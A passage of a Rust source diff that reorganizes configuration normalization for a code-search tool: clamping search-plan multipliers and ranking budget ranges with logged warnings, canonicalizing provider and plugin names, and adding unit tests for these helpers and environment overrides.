+        "search.adaptive_plan.semantic_deep_lexical_fanout_multiplier",
+    );
+    config.semantic_deep_semantic_fanout_multiplier = clamp_min_usize_with_warning(
+        config.semantic_deep_semantic_fanout_multiplier,
+        1,
+        default_semantic_deep_semantic_fanout_multiplier(),
+        "search.adaptive_plan.semantic_deep_semantic_fanout_multiplier",
+    );
+    config.lexical_fast_latency_budget_ms = clamp_min_u64_with_warning(
+        config.lexical_fast_latency_budget_ms,
+        1,
+        default_lexical_fast_latency_budget_ms(),
+        "search.adaptive_plan.lexical_fast_latency_budget_ms",
+    );
+    config.hybrid_standard_latency_budget_ms = clamp_min_u64_with_warning(
+        config.hybrid_standard_latency_budget_ms,
+        1,
+        default_hybrid_standard_latency_budget_ms(),
+        "search.adaptive_plan.hybrid_standard_latency_budget_ms",
+    );
+    config.semantic_deep_latency_budget_ms = clamp_min_u64_with_warning(
+        config.semantic_deep_latency_budget_ms,
+        1,
+        default_semantic_deep_latency_budget_ms(),
+        "search.adaptive_plan.semantic_deep_latency_budget_ms",
+    );
+
+    config
 }
 
-fn parse_freshness_policy(raw: &str) -> Option<FreshnessPolicy> {
-    match raw.trim().to_ascii_lowercase().as_str() {
-        "strict" => Some(FreshnessPolicy::Strict),
-        "balanced" => Some(FreshnessPolicy::Balanced),
-        "best_effort" | "besteffort" => Some(FreshnessPolicy::BestEffort),
-        _ => None,
-    }
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum RankingBudgetNormalizationCode {
+    NonFiniteRange,
+    InvertedRange,
+    DefaultOutOfRange,
 }
 
-fn freshness_policy_to_str(policy: FreshnessPolicy) -> &'static str {
-    match policy {
-        FreshnessPolicy::Strict => "strict",
-        FreshnessPolicy::Balanced => "balanced",
-        FreshnessPolicy::BestEffort => "best_effort",
+impl RankingBudgetNormalizationCode {
+    fn as_str(self) -> &'static str {
+        match self {
+            Self::NonFiniteRange => "non_finite_range",
+            Self::InvertedRange => "inverted_range",
+            Self::DefaultOutOfRange => "default_out_of_range",
+        }
     }
 }
 
-fn normalize_freshness_policy(raw: &str) -> String {
-    let policy = parse_freshness_policy(raw).unwrap_or(FreshnessPolicy::Balanced);
-    freshness_policy_to_str(policy).to_string()
-}
+const FLOAT_TOLERANCE: f64 = 1e-9;
 
-fn parse_ranking_explain_level(raw: &str) -> Option<RankingExplainLevel> {
-    match raw.trim().to_ascii_lowercase().as_str() {
-        "off" => Some(RankingExplainLevel::Off),
-        "basic" => Some(RankingExplainLevel::Basic),
-        "full" => Some(RankingExplainLevel::Full),
-        _ => None,
+impl RankingSignalBudgetConfig {
+    /// Return a normalized copy with canonical safe ranges and deterministic diagnostics.
+    pub fn normalized(&self) -> Self {
+        Self {
+            exact_match: normalize_budget_range(
+                self.exact_match.clone(),
+                default_budget_exact_match(),
+                "search.ranking_signal_budgets.exact_match",
+            ),
+            qualified_name: normalize_budget_range(
+                self.qualified_name.clone(),
+                default_budget_qualified_name(),
+                "search.ranking_signal_budgets.qualified_name",
+            ),
+            path_affinity: normalize_budget_range(
+                self.path_affinity.clone(),
+                default_budget_path_affinity(),
+                "search.ranking_signal_budgets.path_affinity",
+            ),
+            definition_boost: normalize_budget_range(
+                self.definition_boost.clone(),
+                default_budget_definition_boost(),
+                "search.ranking_signal_budgets.definition_boost",
+            ),
+            kind_match: normalize_budget_range(
+                self.kind_match.clone(),
+                default_budget_kind_match(),
+                "search.ranking_signal_budgets.kind_match",
+            ),
+            test_file_penalty: normalize_budget_range(
+                self.test_file_penalty.clone(),
+                default_budget_test_file_penalty(),
+                "search.ranking_signal_budgets.test_file_penalty",
+            ),
+            file_centrality_boost: normalize_budget_range(
+                self.file_centrality_boost.clone(),
+                default_budget_file_centrality_boost(),
+                "search.ranking_signal_budgets.file_centrality_boost",
+            ),
+            secondary_cap_when_exact: normalize_budget_range(
+                self.secondary_cap_when_exact.clone(),
+                default_budget_secondary_cap_when_exact(),
+                "search.ranking_signal_budgets.secondary_cap_when_exact",
+            ),
+        }
     }
 }
 
-fn ranking_explain_level_to_str(level: RankingExplainLevel) -> &'static str {
-    match level {
-        RankingExplainLevel::Off => "off",
-        RankingExplainLevel::Basic => "basic",
-        RankingExplainLevel::Full => "full",
+fn normalize_budget_range(
+    value: RankingSignalBudgetRange,
+    fallback: RankingSignalBudgetRange,
+    field: &str,
+) -> RankingSignalBudgetRange {
+    if !value.min.is_finite() || !value.max.is_finite() || !value.default.is_finite() {
+        let mut normalized = fallback.clone();
+        if value.default.is_finite() {
+            normalized.default = value.default.clamp(fallback.min, fallback.max);
+        }
+        tracing::warn!(
+            field,
+            code = RankingBudgetNormalizationCode::NonFiniteRange.as_str(),
+            min = value.min,
+            max = value.max,
+            default = value.default,
+            normalized_min = normalized.min,
+            normalized_max = normalized.max,
+            normalized_default = normalized.default,
+            "invalid ranking budget range; normalizing to canonical safe range"
+        );
+        return normalized;
     }
-}
-
-fn normalize_ranking_explain_level(raw: &str) -> String {
-    let level = parse_ranking_explain_level(raw).unwrap_or(RankingExplainLevel::Off);
-    ranking_explain_level_to_str(level).to_string()
-}
-
-fn parse_semantic_mode(raw: &str) -> Option<SemanticMode> {
-    match raw.trim().to_ascii_lowercase().as_str() {
-        "off" => Some(SemanticMode::Off),
-        "rerank_only" | "rerankonly" | "shadow" => Some(SemanticMode::RerankOnly),
-        "hybrid" | "on" | "enabled" => Some(SemanticMode::Hybrid),
-        _ => None,
+    if value.min > value.max {
+        let mut normalized = fallback.clone();
+        if value.default.is_finite() {
+            normalized.default = value.default.clamp(fallback.min, fallback.max);
+        }
+        tracing::warn!(
+            field,
+            code = RankingBudgetNormalizationCode::InvertedRange.as_str(),
+            min = value.min,
+            max = value.max,
+            default = value.default,
+            fallback_min = fallback.min,
+            fallback_max = fallback.max,
+            fallback_default = fallback.default,
+            normalized_default = normalized.default,
+            "inverted ranking budget range; falling back to canonical defaults"
+        );
+        return normalized;
     }
-}
 
-fn semantic_mode_to_str(mode: SemanticMode) -> &'static str {
-    match mode {
-        SemanticMode::Off => "off",
-        SemanticMode::RerankOnly => "rerank_only",
-        SemanticMode::Hybrid => "hybrid",
+    let mut normalized = value;
+    let clamped_default = normalized.default.clamp(normalized.min, normalized.max);
+    if (clamped_default - normalized.default).abs() > FLOAT_TOLERANCE {
+        tracing::warn!(
+            field,
+            code = RankingBudgetNormalizationCode::DefaultOutOfRange.as_str(),
+            min = normalized.min,
+            max = normalized.max,
+            default = normalized.default,
+            clamped_default,
+            "ranking budget default is outside range; clamped to range"
+        );
+        normalized.default = clamped_default;
     }
+    normalized
 }
 
-fn normalize_semantic_mode(raw: &str) -> String {
-    let mode = parse_semantic_mode(raw).unwrap_or(SemanticMode::Off);
-    semantic_mode_to_str(mode).to_string()
-}
-
-fn parse_policy_mode(raw: &str) -> Option<PolicyMode> {
-    raw.parse::<PolicyMode>().ok()
-}
-
-fn policy_mode_to_str(mode: PolicyMode) -> &'static str {
-    mode.as_str()
-}
-
-fn normalize_policy_mode(raw: &str) -> String {
-    let mode = parse_policy_mode(raw).unwrap_or(PolicyMode::Balanced);
-    policy_mode_to_str(mode).to_string()
-}
-
-fn normalized_policy_mode_list(values: &[String], fallback: Vec<String>) -> Vec<String> {
-    let mut out = values
-        .iter()
-        .filter_map(|value| parse_policy_mode(value).map(policy_mode_to_str))
-        .map(ToString::to_string)
-        .collect::<Vec<_>>();
-    out.sort();
-    out.dedup();
-    if out.is_empty() { fallback } else { out }
-}
-
-fn normalize_non_empty_list(values: &[String]) -> Vec<String> {
-    values
-        .iter()
-        .map(|v| v.trim())
-        .filter(|v| !v.is_empty())
-        .map(ToString::to_string)
-        .collect()
-}
-
-fn normalize_non_empty_list_lowercase(values: &[String]) -> Vec<String> {
-    values
-        .iter()
-        .map(|v| v.trim().to_ascii_lowercase())
-        .filter(|v| !v.is_empty())
-        .collect()
+fn clamp_unit_f64_with_warning(value: f64, fallback: f64, field: &str) -> f64 {
+    if !value.is_finite() {
+        tracing::warn!(
+            field,
+            value,
+            fallback,
+            "invalid non-finite config value; falling back to default"
+        );
+        return fallback;
+    }
+    let clamped = value.clamp(0.0, 1.0);
+    if (clamped - value).abs() > FLOAT_TOLERANCE {
+        tracing::warn!(
+            field,
+            value,
+            clamped,
+            "config value out of range; clamped to [0.0, 1.0]"
+        );
+    }
+    clamped
 }
 
-fn normalize_policy_result_type_list(values: &[String]) -> Vec<String> {
-    values
-        .iter()
-        .map(|v| v.trim().to_ascii_lowercase())
-        .filter_map(|value| match value.as_str() {
-            "symbol" | "snippet" | "file" => Some(value),
-            _ => None,
-        })
-        .collect()
+fn clamp_non_negative_f64_with_warning(value: f64, fallback: f64, field: &str) -> f64 {
+    if !value.is_finite() {
+        tracing::warn!(
+            field,
+            value,
+            fallback,
+            "invalid non-finite config value; falling back to default"
+        );
+        return fallback;
+    }
+    if value < 0.0 {
+        tracing::warn!(
+            field,
+            value,
+            fallback,
+            "config value below 0.0; falling back to default"
+        );
+        return fallback;
+    }
+    value
 }
 
-fn normalize_detect_secrets_plugins(values: &[String]) -> Vec<String> {
-    let mut normalized = Vec::new();
-    for value in values
-        .iter()
-        .map(|v| v.trim().to_ascii_lowercase())
-        .filter(|v| !v.is_empty())
-    {
-        let canonical = match value.as_str() {
-            "awskeydetector" | "aws" => "aws",
-            "githubtokendetector" | "github" => "github",
-            "slackdetector" | "slack" => "slack",
-            "privatekeydetector" | "privatekey" => "privatekey",
-            _ => continue,
-        };
-        if !normalized.iter().any(|existing| existing == canonical) {
-            normalized.push(canonical.to_string());
-        }
+fn clamp_range_f64_with_warning(value: f64, min: f64, max: f64, fallback: f64, field: &str) -> f64 {
+    if !value.is_finite() {
+        tracing::warn!(
+            field,
+            value,
+            fallback,
+            "invalid non-finite config value; falling back to default"
+        );
+        return fallback;
     }
-    normalized
+    if value < min || value > max {
+        tracing::warn!(
+            field,
+            value,
+            min,
+            max,
+            fallback,
+            "config value out of range; falling back to default"
+        );
+        return fallback;
+    }
+    value
 }
 
-fn normalize_embedding_profile(raw: &str) -> String {
-    match raw.trim().to_ascii_lowercase().as_str() {
-        "fast_local" => "fast_local".to_string(),
-        "code_quality" => "code_quality".to_string(),
-        "high_quality" => "high_quality".to_string(),
-        "external" => "external".to_string(),
-        _ => default_semantic_embedding_profile(),
+fn clamp_min_usize_with_warning(value: usize, min: usize, fallback: usize, field: &str) -> usize {
+    if value < min {
+        tracing::warn!(
+            field,
+            value,
+            min,
+            fallback,
+            "config value below minimum; falling back to default"
+        );
+        fallback
+    } else {
+        value
     }
 }
 
-fn normalize_embedding_provider(raw: &str) -> String {
-    match raw.trim().to_ascii_lowercase().as_str() {
-        "local" => "local".to_string(),
-        "voyage" => "voyage".to_string(),
-        "openai" => "openai".to_string(),
-        _ => default_semantic_embedding_provider(),
+fn clamp_min_u64_with_warning(value: u64, min: u64, fallback: u64, field: &str) -> u64 {
+    if value < min {
+        tracing::warn!(
+            field,
+            value,
+            min,
+            fallback,
+            "config value below minimum; falling back to default"
+        );
+        fallback
+    } else {
+        value
     }
 }
 
-fn normalize_rerank_provider(raw: &str) -> String {
-    match raw.trim().to_ascii_lowercase().as_str() {
-        "none" => "none".to_string(),
-        "cohere" => "cohere".to_string(),
-        "voyage" => "voyage".to_string(),
-        "cross-encoder" | "cross_encoder" | "crossencoder" => "cross-encoder".to_string(),
-        _ => default_semantic_rerank_provider(),
+fn expand_tilde(path: &str) -> String {
+    if path.starts_with('~')
+        && let Some(home) = dirs::home_dir()
+    {
+        return path.replacen('~', &home.to_string_lossy(), 1);
     }
+    path.to_string()
 }
 
-fn normalize_vector_backend(raw: &str) -> String {
-    match raw.trim().to_ascii_lowercase().as_str() {
-        "lancedb" | "lance" => "lancedb".to_string(),
-        "sqlite" | "" => "sqlite".to_string(),
-        _ => default_semantic_vector_backend(),
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::sync::{Mutex, OnceLock};
+    use tempfile::tempdir;
+
+    fn env_test_lock() -> &'static Mutex<()> {
+        static ENV_TEST_LOCK: OnceLock<Mutex<()>> = OnceLock::new();
+        ENV_TEST_LOCK.get_or_init(|| Mutex::new(()))
     }
-}
 
-/// Normalize user-provided intent rule names/aliases into canonical identifiers.
-pub fn canonical_intent_rule_name(raw: &str) -> Option<&'static str> {
-    match raw.trim().to_ascii_lowercase().as_str() {
-        "error_pattern" | "error" => Some("error_pattern"),
-        "path" => Some("path"),
-        "quoted_error" | "quoted" => Some("quoted_error"),
-        "symbol" => Some("symbol"),
-        "natural_language" | "nl" | "default" => Some("natural_language"),
-        _ => None,
+    #[test]
+    fn normalize_freshness_policy_values() {
+        assert_eq!(normalize_freshness_policy("strict"), "strict");
+        assert_eq!(normalize_freshness_policy("BALANCED"), "balanced");
+        assert_eq!(normalize_freshness_policy("bestEffort"), "best_effort");
+        assert_eq!(normalize_freshness_policy("unknown"), "balanced");
     }
-}
 
-fn normalize_intent_rule_order(raw: &[String]) -> Vec<String> {
-    let mut normalized = Vec::new();
-    for value in raw {
-        let Some(rule) = canonical_intent_rule_name(value) else {
-            continue;
-        };
-        if !normalized.iter().any(|existing| existing == rule) {
-            normalized.push(rule.to_string());
-        }
+    #[test]
+    fn normalize_ranking_explain_level_values() {
+        assert_eq!(normalize_ranking_explain_level("off"), "off");
+        assert_eq!(normalize_ranking_explain_level("BASIC"), "basic");
+        assert_eq!(normalize_ranking_explain_level("full"), "full");
+        assert_eq!(normalize_ranking_explain_level("unknown"), "off");
     }
 
-    if normalized.is_empty() {
-        return default_intent_rule_order();
+    #[test]
+    fn normalize_semantic_mode_values() {
+        assert_eq!(normalize_semantic_mode("off"), "off");
+        assert_eq!(normalize_semantic_mode("shadow"), "rerank_only");
+        assert_eq!(normalize_semantic_mode("ENABLED"), "hybrid");
+        assert_eq!(normalize_semantic_mode("unknown"), "off");
     }
-    if !normalized.iter().any(|rule| rule == "natural_language") {
-        normalized.push("natural_language".to_string());
+
+    #[test]
+    fn normalize_policy_mode_values() {
+        assert_eq!(normalize_policy_mode("strict"), "strict");
+        assert_eq!(normalize_policy_mode("BALANCED"), "balanced");
+        assert_eq!(normalize_policy_mode("audit"), "audit_only");
+        assert_eq!(normalize_policy_mode("unknown"), "balanced");
     }
-    normalized
-}
 
-fn normalize_intent_error_patterns(raw: &[String]) -> Vec<String> {
-    let mut normalized = Vec::new();
-    for value in raw.iter().map(|value| value.trim()) {
-        if value.is_empty() {
-            continue;
-        }
-        let value = value.to_string();
-        if !normalized.contains(&value) {
-            normalized.push(value);
-        }
+    #[test]
+    fn search_policy_override_resolution_respects_allowlist() {
+        let mut config = SearchConfig::default();
+        config.policy.mode = "balanced".to_string();
+        config.policy.allow_request_override = true;
+        config.policy.allowed_override_modes = vec!["off".to_string(), "audit_only".to_string()];
+
+        let (effective, warnings) = config
+            .resolve_policy_mode(Some(PolicyMode::AuditOnly))
+            .expect("audit_only should be allowed");
+        assert_eq!(effective, PolicyMode::AuditOnly);
+        assert!(!warnings.is_empty());
+
+        let err = config
+            .resolve_policy_mode(Some(PolicyMode::Strict))
+            .expect_err("strict should be denied by allowlist");
+        assert!(err.contains("not allowed"));
     }
-    if normalized.is_empty() {
-        default_intent_error_patterns()
-    } else {
-        normalized
+
+    #[test]
+    fn normalize_semantic_provider_values() {
+        assert_eq!(normalize_embedding_profile("high_quality"), "high_quality");
+        assert_eq!(normalize_embedding_profile("unknown"), "fast_local");
+        assert_eq!(normalize_embedding_provider("VOYAGE"), "voyage");
+        assert_eq!(normalize_embedding_provider(""), "local");
+        assert_eq!(normalize_rerank_provider("cohere"), "cohere");
+        assert_eq!(normalize_rerank_provider("oops"), "none");
     }
-}
 
-fn normalize_intent_path_extensions(raw: &[String]) -> Vec<String> {
-    let mut normalized = Vec::new();
-    for value in raw
-        .iter()
-        .map(|value| value.trim().to_ascii_lowercase())
-        .filter(|value| !value.is_empty())
-    {
-        let value = if value.starts_with('.') {
-            value
-        } else {
-            format!(".{value}")
-        };
-        if !normalized.contains(&value) {
-            normalized.push(value);
+    #[test]
+    fn openai_compatible_provider_aliases() {
+        for alias in [
+            "openai-compatible",
+            "openai_compatible",
+            "llama.cpp",
+            "llamacpp",
+        ] {
+            assert_eq!(normalize_embedding_provider(alias), "openai-compatible");
         }
     }
-    if normalized.is_empty() {
-        default_intent_path_extensions()
-    } else {
-        normalized
-    }
-}
 
-fn normalize_intent_symbol_kind_keywords(raw: &[String]) -> Vec<String> {
-    let mut normalized = Vec::new();
-    for value in raw
-        .iter()
-        .map(|value| value.trim().to_ascii_lowercase())
-        .filter(|value| !value.is_empty())
-    {
-        if !normalized.contains(&value) {
-            normalized.push(value);
-        }
+    #[test]
+    fn fake_embedding_provider_is_recognized() {
+        assert_eq!(normalize_embedding_provider("Fake"), "fake");
+        assert_eq!(normalize_embedding_provider("fake"), "fake");
     }
-    if normalized.is_empty() {
-        default_intent_symbol_kind_keywords()
-    } else {
-        normalized
+
+    #[test]
+    fn normalize_intent_policy_values() {
+        assert_eq!(
+            normalize_intent_rule_order(&[
+                "path".to_string(),
+                "unknown".to_string(),
+                "path".to_string(),
+            ]),
+            vec!["path".to_string(), "natural_language".to_string()]
+        );
+        assert_eq!(
+            normalize_intent_error_patterns(&[
+                "".to_string(),
+                "panic payload".to_string(),
+                "panic payload".to_string(),
+            ]),
+            vec!["panic payload".to_string()]
+        );
+        assert_eq!(
+            normalize_intent_path_extensions(&[
+                "rs".to_string(),
+                " .KT ".to_string(),
+                "rs".to_string(),
+                "".to_string(),
+            ]),
+            vec![".rs".to_string(), ".kt".to_string()]
+        );
+        assert_eq!(
+            normalize_intent_symbol_kind_keywords(&[
+                "Fn".to_string(),
+                "".to_string(),
+                "METHOD".to_string(),
+                "fn".to_string(),
+            ]),
+            vec!["fn".to_string(), "method".to_string()]
+        );
     }
-}
 
-fn normalize_adaptive_plan_config(mut config: AdaptivePlanConfig) -> AdaptivePlanConfig {
-    config.high_confidence_threshold = clamp_unit_f64_with_warning(
-        config.high_confidence_threshold,
-        default_adaptive_plan_high_confidence_threshold(),
-        "search.adaptive_plan.high_confidence_threshold",
-    );
-    config.low_confidence_threshold = clamp_unit_f64_with_warning(
-        config.low_confidence_threshold,
-        default_adaptive_plan_low_confidence_threshold(),
-        "search.adaptive_plan.low_confidence_threshold",
-    );
-    if config.low_confidence_threshold > config.high_confidence_threshold {
-        tracing::warn!(
-            low_confidence_threshold = config.low_confidence_threshold,
-            high_confidence_threshold = config.high_confidence_threshold,
-            "adaptive plan thresholds inverted; restoring defaults"
+    #[test]
+    fn ranking_signal_budget_normalization_preserves_safe_ranges() {
+        let raw = RankingSignalBudgetConfig {
+            exact_match: RankingSignalBudgetRange {
+                min: 5.0,
+                max: 1.0,
+                default: 9.0,
+            },
+            qualified_name: RankingSignalBudgetRange {
+                min: 0.0,
+                max: 1.0,
+                default: 2.5,
+            },
+            path_affinity: default_budget_path_affinity(),
+            definition_boost: default_budget_definition_boost(),
+            kind_match: default_budget_kind_match(),
+            test_file_penalty: default_budget_test_file_penalty(),
+            file_centrality_boost: default_budget_file_centrality_boost(),
+            secondary_cap_when_exact: default_budget_secondary_cap_when_exact(),
+        };
+        let normalized = raw.normalized();
+        assert_eq!(normalized.exact_match.min, 0.0);
+        assert_eq!(normalized.exact_match.max, 8.0);
+        assert_eq!(normalized.exact_match.default, 8.0);
+        assert_eq!(normalized.qualified_name.min, 0.0);
+        assert_eq!(normalized.qualified_name.max, 1.0);
+        assert_eq!(normalized.qualified_name.default, 1.0);
+        assert_eq!(
+            RankingBudgetNormalizationCode::InvertedRange.as_str(),
+            "inverted_range"
+        );
+        assert_eq!(
+            RankingBudgetNormalizationCode::DefaultOutOfRange.as_str(),
+            "default_out_of_range"
         );
-        config.high_confidence_threshold = default_adaptive_plan_high_confidence_threshold();
-        config.low_confidence_threshold = default_adaptive_plan_low_confidence_threshold();
     }
 
-    config.lexical_fast_lexical_fanout_multiplier = clamp_min_usize_with_warning(
-        config.lexical_fast_lexical_fanout_multiplier,
-        1,
-        default_lexical_fast_lexical_fanout_multiplier(),
-        "search.adaptive_plan.lexical_fast_lexical_fanout_multiplier",
-    );
-    config.hybrid_standard_semantic_limit_multiplier = clamp_min_usize_with_warning(
-        config.hybrid_standard_semantic_limit_multiplier,
-        1,
-        default_hybrid_standard_semantic_limit_multiplier(),
-        "search.adaptive_plan.hybrid_standard_semantic_limit_multiplier",
-    );
-    config.hybrid_standard_lexical_fanout_multiplier = clamp_min_usize_with_warning(
-        config.hybrid_standard_lexical_fanout_multiplier,
-        1,
-        default_hybrid_standard_lexical_fanout_multiplier(),
-        "search.adaptive_plan.hybrid_standard_lexical_fanout_multiplier",
-    );
-    config.hybrid_standard_semantic_fanout_multiplier = clamp_min_usize_with_warning(
-        config.hybrid_standard_semantic_fanout_multiplier,
-        1,
-        default_hybrid_standard_semantic_fanout_multiplier(),
-        "search.adaptive_plan.hybrid_standard_semantic_fanout_multiplier",
-    );
-    config.semantic_deep_semantic_limit_multiplier = clamp_min_usize_with_warning(
-        config.semantic_deep_semantic_limit_multiplier,
-        1,
-        default_semantic_deep_semantic_limit_multiplier(),
-        "search.adaptive_plan.semantic_deep_semantic_limit_multiplier",
-    );
-    config.semantic_deep_lexical_fanout_multiplier = clamp_min_usize_with_warning(
-        config.semantic_deep_lexical_fanout_multiplier,
-        1,
-        default_semantic_deep_lexical_fanout_multiplier(),
-        "search.adaptive_plan.semantic_deep_lexical_fanout_multiplier",
-    );
-    config.semantic_deep_semantic_fanout_multiplier = clamp_min_usize_with_warning(
-        config.semantic_deep_semantic_fanout_multiplier,
-        1,
-        default_semantic_deep_semantic_fanout_multiplier(),
-        "search.adaptive_plan.semantic_deep_semantic_fanout_multiplier",
-    );
-    config.lexical_fast_latency_budget_ms = clamp_min_u64_with_warning(
-        config.lexical_fast_latency_budget_ms,
-        1,
-        default_lexical_fast_latency_budget_ms(),
-        "search.adaptive_plan.lexical_fast_latency_budget_ms",
-    );
-    config.hybrid_standard_latency_budget_ms = clamp_min_u64_with_warning(
-        config.hybrid_standard_latency_budget_ms,
-        1,
-        default_hybrid_standard_latency_budget_ms(),
-        "search.adaptive_plan.hybrid_standard_latency_budget_ms",
-    );
-    config.semantic_deep_latency_budget_ms = clamp_min_u64_with_warning(
-        config.semantic_deep_latency_budget_ms,
-        1,
-        default_semantic_deep_latency_budget_ms(),
-        "search.adaptive_plan.semantic_deep_latency_budget_ms",
-    );
-
-    config
-}
+    #[test]
+    fn parse_env_bool_supports_common_truthy_falsey_values() {
+        assert_eq!(parse_env_bool("true"), Some(true));
+        assert_eq!(parse_env_bool("TRUE"), Some(true));
+        assert_eq!(parse_env_bool(" yes "), Some(true));
+        assert_eq!(parse_env_bool("on"), Some(true));
+        assert_eq!(parse_env_bool("1"), Some(true));
 
-#[derive(Debug, Clone, Copy, PartialEq, Eq)]
-pub enum RankingBudgetNormalizationCode {
-    NonFiniteRange,
-    InvertedRange,
-    DefaultOutOfRange,
-}
+        assert_eq!(parse_env_bool("false"), Some(false));
+        assert_eq!(parse_env_bool("FALSE"), Some(false));
+        assert_eq!(parse_env_bool(" no "), Some(false));
+        assert_eq!(parse_env_bool("off"), Some(false));
+        assert_eq!(parse_env_bool("0"), Some(false));
 
-impl RankingBudgetNormalizationCode {
-    fn as_str(self) -> &'static str {
-        match self {
-            Self::NonFiniteRange => "non_finite_range",
-            Self::InvertedRange => "inverted_range",
-            Self::DefaultOutOfRange => "default_out_of_range",
-        }
+        assert_eq!(parse_env_bool("maybe"), None);
     }
-}
-
-const FLOAT_TOLERANCE: f64 = 1e-9;
 
-impl RankingSignalBudgetConfig {
-    /// Return a normalized copy with canonical safe ranges and deterministic diagnostics.
-    pub fn normalized(&self) -> Self {
-        Self {
-            exact_match: normalize_budget_range(
-                self.exact_match.clone(),
-                default_budget_exact_match(),
-                "search.ranking_signal_budgets.exact_match",
-            ),
-            qualified_name: normalize_budget_range(
-                self.qualified_name.clone(),
-                default_budget_qualified_name(),
-                "search.ranking_signal_budgets.qualified_name",
-            ),
-            path_affinity: normalize_budget_range(
-                self.path_affinity.clone(),
-                default_budget_path_affinity(),
-                "search.ranking_signal_budgets.path_affinity",
-            ),
-            definition_boost: normalize_budget_range(
-                self.definition_boost.clone(),
-                default_budget_definition_boost(),
-                "search.ranking_signal_budgets.definition_boost",
-            ),
-            kind_match: normalize_budget_range(
-                self.kind_match.clone(),
-                default_budget_kind_match(),
-                "search.ranking_signal_budgets.kind_match",
-            ),
-            test_file_penalty: normalize_budget_range(
-                self.test_file_penalty.clone(),
-                default_budget_test_file_penalty(),
-                "search.ranking_signal_budgets.test_file_penalty",
-            ),
-            file_centrality_boost: normalize_budget_range(
-                self.file_centrality_boost.clone(),
-                default_budget_file_centrality_boost(),
-                "search.ranking_signal_budgets.file_centrality_boost",
+    #[test]
+    fn parse_ranking_budget_env_default_accepts_finite_numbers_only() {
+        assert_eq!(
+            parse_ranking_budget_env_default(
+                "1.25",
+                "search.ranking_signal_budgets.exact_match.default",
+                "CRUXE_SEARCH_RANKING_BUDGET_EXACT_MATCH_DEFAULT"
             ),
-            secondary_cap_when_exact: normalize_budget_range(
-                self.secondary_cap_when_exact.clone(),
-                default_budget_secondary_cap_when_exact(),
-                "search.ranking_signal_budgets.secondary_cap_when_exact",
+            Some(1.25)
+        );
+        assert_eq!(
+            parse_ranking_budget_env_default(
+                "NaN",
+                "search.ranking_signal_budgets.exact_match.default",
+                "CRUXE_SEARCH_RANKING_BUDGET_EXACT_MATCH_DEFAULT"
             ),
-        }
-    }
-}
-
-fn normalize_budget_range(
-    value: RankingSignalBudgetRange,
-    fallback: RankingSignalBudgetRange,
-    field: &str,
-) -> RankingSignalBudgetRange {
-    if !value.min.is_finite() || !value.max.is_finite() || !value.default.is_finite() {
-        let mut normalized = fallback.clone();
-        if value.default.is_finite() {
-            normalized.default = value.default.clamp(fallback.min, fallback.max);
-        }
-        tracing::warn!(
-            field,
-            code = RankingBudgetNormalizationCode::NonFiniteRange.as_str(),
-            min = value.min,
-            max = value.max,
-            default = value.default,
-            normalized_min = normalized.min,
-            normalized_max = normalized.max,
-            normalized_default = normalized.default,
-            "invalid ranking budget range; normalizing to canonical safe range"
+            None
         );
-        return normalized;
-    }
-    if value.min > value.max {
-        let mut normalized = fallback.clone();
-        if value.default.is_finite() {
-            normalized.default = value.default.clamp(fallback.min, fallback.max);
-        }
-        tracing::warn!(
-            field,
-            code = RankingBudgetNormalizationCode::InvertedRange.as_str(),
-            min = value.min,
-            max = value.max,
-            default = value.default,
-            fallback_min = fallback.min,
-            fallback_max = fallback.max,
-            fallback_default = fallback.default,
-            normalized_default = normalized.default,
-            "inverted ranking budget range; falling back to canonical defaults"
+        assert_eq!(
+            parse_ranking_budget_env_default(
+                "oops",
+                "search.ranking_signal_budgets.exact_match.default",
+                "CRUXE_SEARCH_RANKING_BUDGET_EXACT_MATCH_DEFAULT"
+            ),
+            None
         );
-        return normalized;
     }
 
-    let mut normalized = value;
-    let clamped_default = normalized.default.clamp(normalized.min, normalized.max);
-    if (clamped_default - normalized.default).abs() > FLOAT_TOLERANCE {
-        tracing::warn!(
-            field,
-            code = RankingBudgetNormalizationCode::DefaultOutOfRange.as_str(),
-            min = normalized.min,
-            max = normalized.max,
-            default = normalized.default,
-            clamped_default,
-            "ranking budget default is outside range; clamped to range"
+    #[test]
+    fn env_override_updates_file_centrality_budget_default() {
+        let _guard = env_test_lock()
+            .lock()
+            .expect("env test lock should not be poisoned");
+        let key = "CRUXE_SEARCH_RANKING_BUDGET_FILE_CENTRALITY_BOOST_DEFAULT";
+        let previous = std::env::var(key).ok();
+
+        // SAFETY: test is serialized by env_test_lock(), so no concurrent env mutation.
+        unsafe {
+            std::env::set_var(key, "0.4");
+        }
+        let mut config = Config::default();
+        apply_env_overrides(&mut config);
+        assert!(
+            (config
+                .search
+                .ranking_signal_budgets
+                .file_centrality_boost
+                .default
+                - 0.4)
+                .abs()
+                < 1e-9
         );
-        normalized.default = clamped_default;
+
+        if let Some(value) = previous {
+            // SAFETY: test is serialized by env_test_lock(), so no concurrent env mutation.
+            unsafe {
+                std::env::set_var(key, value);
+            }
+        } else {
+            // SAFETY: test is serialized by env_test_lock(), so no concurrent env mutation.
+            unsafe {
+                std::env::remove_var(key);
+            }
+        }
     }
-    normalized
-}
 
-fn clamp_unit_f64_with_warning(value: f64, fallback: f64, field: &str) -> f64 {
-    if !value.is_finite() {
-        tracing::warn!(
-            field,
-            value,
-            fallback,
-            "invalid non-finite config value; falling back to default"
+    #[test]
+    fn normalize_detect_secrets_plugins_filters_unknown_and_canonicalizes_aliases() {
+        assert_eq!(
+            normalize_detect_secrets_plugins(&[
+                " AWSKeyDetector ".to_string(),
+                "github".to_string(),
+                "unknown".to_string(),
+                "privatekeydetector".to_string(),
+                "aws".to_string(),
+                "slackdetector".to_string(),
+            ]),
+            vec![
+                "aws".to_string(),
+                "github".to_string(),
+                "privatekey".to_string(),
+                "slack".to_string(),
+            ]
         );
-        return fallback;
     }
-    let clamped = value.clamp(0.0, 1.0);
-    if (clamped - value).abs() > FLOAT_TOLERANCE {
-        tracing::warn!(
-            field,
-            value,
-            clamped,
-            "config value out of range; clamped to [0.0, 1.0]"
+
+    #[test]
+    fn search_intent_config_normalized_produces_canonical_values() {
+        let raw = SearchIntentConfig {
+            rule_order: vec![
+                " PATH ".to_string(),
+                "path".to_string(),
+                "unknown".to_string(),
+            ],
+            error_patterns: vec![
+                "".to_string(),
+                "panic payload".to_string(),
+                "panic payload".to_string(),
+            ],
+            path_extensions: vec!["rs".to_string(), " .RS ".to_string()],
+            symbol_kind_keywords: vec!["Fn".to_string(), "fn".to_string(), "METHOD".to_string()],
+            enable_wrapped_quoted_error_literal: false,
+        };
+
